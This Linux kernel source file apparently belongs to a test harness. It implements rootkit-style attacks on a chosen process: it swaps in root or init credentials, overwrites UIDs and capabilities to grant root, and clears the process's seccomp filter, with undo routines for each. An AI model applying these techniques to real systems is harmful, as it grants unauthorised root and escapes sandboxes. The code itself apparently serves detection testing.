// SPDX-License-Identifier: GPL-2.0-only
/*
 * Gives a process privileges as exploits and rootkits do it, and takes away the
 * filter of its system calls.
 *
 * Writes to another task's credentials have no lock in Linux: the tests' target
 * does nothing meanwhile.
 */
#include <linux/cred.h>
#include <linux/kernel.h>
#include <linux/pid.h>
#include <linux/rcupdate.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seccomp.h>
#include <linux/thread_info.h>

#include "attacks.h"

/* The target, and its own credentials while it has others. */
struct target {
	struct task_struct *task;
	const struct cred *own;
};

static struct task_struct *target_task(struct attack *attack, char *argument)
{
	struct task_struct *task = NULL;
	struct pid *pid;
	pid_t number;

	if (kstrtoint(argument, 10, &number) || number < 2)
		return ERR_PTR(-EINVAL);
	pid = find_get_pid(number);
	if (pid)
		task = get_pid_task(pid, PIDTYPE_PID);
	put_pid(pid);
	if (!task)
		return ERR_PTR(-ESRCH);
	snprintf(attack->about, sizeof(attack->about), "%s (%d)", task->comm, number);
	return task;
}

/* Takes over the reference to @cred, and returns the one to the credentials before. */
static const struct cred *exchange(struct task_struct *task, const struct cred *cred)
{
	const struct cred *before = rcu_access_pointer(task->real_cred);

	/* One reference for each of the two pointers. */
	get_cred(cred);
	rcu_assign_pointer(task->real_cred, cred);
	rcu_assign_pointer(task->cred, cred);
	put_cred(before);
	return before;
}

static int gain(struct attack *attack, struct target *target, char *argument,
		const struct cred *cred)
{
	target->task = target_task(attack, argument);
	if (IS_ERR(target->task)) {
		put_cred(cred);
		return PTR_ERR(target->task);
	}
	target->own = exchange(target->task, cred);
	attack_mark(attack, NULL);
	return 0;
}

static void give_back(struct target *target)
{
	put_cred(exchange(target->task, target->own));
	put_task_struct(target->task);
}

static struct target root, kernels;

static int gain_root_begin(struct attack *attack, char *argument)
{
	struct cred *cred = prepare_kernel_cred(&init_task);

	return cred ? gain(attack, &root, argument, cred) : -ENOMEM;
}

static void gain_root_undo(struct attack *attack)
{
	give_back(&root);
}

static int gain_kernels_begin(struct attack *attack, char *argument)
{
	const struct cred *cred = (const struct cred *)symbol("init_cred");

	return cred ? gain(attack, &kernels, argument, get_cred(cred)) : -ENOENT;
}

static void gain_kernels_undo(struct attack *attack)
{
	give_back(&kernels);
}

static struct task_struct *written;
static struct cred as_before;

static int gain_written_begin(struct attack *attack, char *argument)
{
	struct cred *cred;

	written = target_task(attack, argument);
	if (IS_ERR(written))
		return PTR_ERR(written);
	cred = (struct cred *)rcu_access_pointer(written->real_cred);
	as_before = *cred;
	cred->uid = GLOBAL_ROOT_UID;
	cred->euid = GLOBAL_ROOT_UID;
	cred->suid = GLOBAL_ROOT_UID;
	cred->fsuid = GLOBAL_ROOT_UID;
	cred->cap_permitted = CAP_FULL_SET;
	cred->cap_effective = CAP_FULL_SET;
	attack_mark(attack, NULL);
	return 0;
}

static void gain_written_undo(struct attack *attack)
{
	struct cred *cred = (struct cred *)rcu_access_pointer(written->real_cred);

	cred->uid = as_before.uid;
	cred->euid = as_before.euid;
	cred->suid = as_before.suid;
	cred->fsuid = as_before.fsuid;
	cred->cap_permitted = as_before.cap_permitted;
	cred->cap_effective = as_before.cap_effective;
	put_task_struct(written);
}

static struct task_struct *unfiltered;

static int lift_filter_begin(struct attack *attack, char *argument)
{
	unfiltered = target_task(attack, argument);
	if (IS_ERR(unfiltered))
		return PTR_ERR(unfiltered);
	if (unfiltered->seccomp.mode != SECCOMP_MODE_FILTER) {
		put_task_struct(unfiltered);
		return -ENODATA;
	}
	clear_task_syscall_work(unfiltered, SECCOMP);
	attack_mark(attack, NULL);
	return 0;
}

static void lift_filter_undo(struct attack *attack)
{
	set_task_syscall_work(unfiltered, SECCOMP);
	put_task_struct(unfiltered);
}

struct attack gain_root = {
	.name = "gain-root", .begin = gain_root_begin, .undo = gain_root_undo,
	.present = attack_stays,
};

struct attack gain_kernels = {
	.name = "gain-kernels", .begin = gain_kernels_begin, .undo = gain_kernels_undo,
	.present = attack_stays,
};

struct attack gain_written = {
	.name = "gain-written", .begin = gain_written_begin, .undo = gain_written_undo,
	.present = attack_stays,
};

struct attack lift_filter = {
	.name = "lift-filter", .begin = lift_filter_begin, .undo = lift_filter_undo,
	.present = attack_stays,
};
